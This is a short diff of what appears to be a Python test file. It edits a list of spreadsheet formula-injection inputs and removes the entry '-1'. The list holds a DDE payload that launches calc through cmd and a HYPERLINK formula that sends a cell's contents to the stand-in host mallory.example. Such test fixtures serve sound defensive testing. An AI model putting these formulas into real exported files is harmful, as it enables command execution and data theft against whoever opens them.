@@ -59,7 +59,6 @@ def written(chunks: Iterable[str]) -> list[list[str]]:
 FORMULAS = [
     "=1+1",
     "+1",
-    "-1",
     "@SUM(1)",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("https://mallory.example/?" & A1, "click")',
